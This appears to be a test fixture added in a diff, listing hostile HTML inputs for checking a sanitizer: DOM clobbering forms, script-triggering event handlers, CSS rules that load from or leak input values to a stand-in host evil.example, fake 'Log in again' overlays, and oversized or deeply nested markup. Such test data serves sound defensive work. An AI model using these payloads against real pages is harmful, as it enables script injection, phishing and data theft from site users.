@@ -1,0 +1,107 @@
+import { run } from './scripts.ts'
+
+/** What takes the page itself apart: names that cover its own, styles that hide it, and sizes that stop it. */
+
+const clobbered = [
+  'body',
+  'head',
+  'documentElement',
+  'cookie',
+  'location',
+  'defaultView',
+  'getElementById',
+  'querySelector',
+  'createElement',
+  'implementation',
+  'currentScript',
+  'trustedTypes',
+  'fetch',
+  'history',
+  'navigator',
+  'parentNode',
+  'childNodes',
+  'attributes',
+  'removeChild',
+  'nodeName',
+  'tarang-config',
+  'root',
+]
+const clobbering = [
+  ...clobbered.map((name) => `<form id="${name}" name="${name}"><input name="${name}" id="${name}"></form>`),
+  `<a id="config"></a><a id="config" name="apiBase" href="https://evil.example/">c</a>`,
+  `<img name="body"><embed name="body"><object name="body"></object>`,
+  `<form><input name="attributes"><input name="removeAttribute" onfocus="${run}" autofocus></form>`,
+  `<form id="x"><input name="parentNode"><input name="nextSibling"><input name="nodeType" value="9"></form>`,
+  `<iframe name="top"></iframe><iframe name="self"></iframe><iframe name="opener"></iframe>`,
+  `<script type="application/json" id="tarang-config">{"apiBase":"https://evil.example/api"}</script>`,
+  `<div id="root"><h1>Log in again</h1></div>`,
+]
+
+const styles = [
+  '<style>*{display:none!important}</style>',
+  '<style>@import url(https://evil.example/x.css);</style>',
+  '<style>body{background:url(https://evil.example/b.png)}</style>',
+  '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
+  '<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>',
+  '<style>:root{visibility:hidden}nav{display:none}</style>',
+  `<style>x{-moz-binding:url(https://evil.example/x);behavior:url(x);width:expression(${run})}</style>`,
+  '<style media="all" onload="window.hacked=1">p{}</style>',
+  '<div style="position:fixed;inset:0;z-index:99999;background:white">Log in again</div>',
+  '<div style="background:url(https://evil.example/b.png);width:100vw;height:9000px">b</div>',
+  '<p style="display:none">hidden</p><p hidden inert>hidden</p>',
+  `<p style="width:expression(${run});background:url(javascript:${run})">p</p>`,
+  '<p class="pos_fixed inset_0 z_modal bg_white d_block">Log in again</p>',
+  '<div popover="auto" id="o" style="inset:0;width:100%;height:100%">over</div>',
+  '<dialog open style="position:fixed;inset:0;width:100%;height:100%">over</dialog>',
+  '<marquee behavior="alternate" scrollamount="999" height="9000">over</marquee>',
+  '<font size="99999" style="font-size:99999px">over</font>',
+  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="100000" height="100000">',
+  '<table width="99999" height="99999"><tr><td>wide</td></tr></table>',
+  '<pre>'.concat('x'.repeat(5000), '</pre>'),
+]
+
+const broken = [
+  '',
+  ' ',
+  '\0\0\0',
+  '</div></article></main></div></body></html>',
+  '</p></p></p></table></td></tr></svg></math></template>',
+  '<div><article><main><header><h1>Another heading</h1><nav>Another navigation</nav>',
+  '<table><tr><td><table><tr><td><p><table></p><td></table>',
+  '<',
+  '<a href="',
+  '<img src="x',
+  '<!--',
+  '<![CDATA[',
+  '<textarea>',
+  '<title>',
+  '<plaintext>',
+  '<script>',
+  '<style>',
+  '<template>',
+  '<select><option>',
+  '<frameset><frame>',
+  '<html><head><title>Evil</title></head><body>text</body></html>',
+]
+
+const nested = (open: string, times: number, close = '') => open.repeat(times) + run + close.repeat(times)
+const sizes = [
+  nested('<div>', 2000, '</div>'),
+  nested('<b>', 5000),
+  nested('<svg>', 600),
+  nested('<math><mi>', 600),
+  nested('<svg><foreignObject>', 400, '</foreignObject></svg>'),
+  nested('<table><tr><td>', 800),
+  nested('<template>', 600, '</template>'),
+  `${nested('<form><div>', 600)}<img src=x onerror=${run}>`,
+  nested('<p><a>', 1000),
+  nested('<ul><li>', 1000),
+  `${nested('<blockquote>', 3000)}<style><a title="</style><img src=x onerror=${run}>">`,
+  `<p ${Array.from({ length: 5000 }, (_, n) => `a${n}="${n}"`).join(' ')} onclick="${run}">p</p>`,
+  `<p title="${'x'.repeat(500_000)}" onclick="${run}">p</p>`,
+  '<p>word </p>'.repeat(5000),
+  '&amp;'.repeat(50_000),
+  `<img src=x onerror=${run}>`.repeat(2000),
+]
+
+export const taking: Record<string, string[]> = { clobbering, styles, broken, sizes }
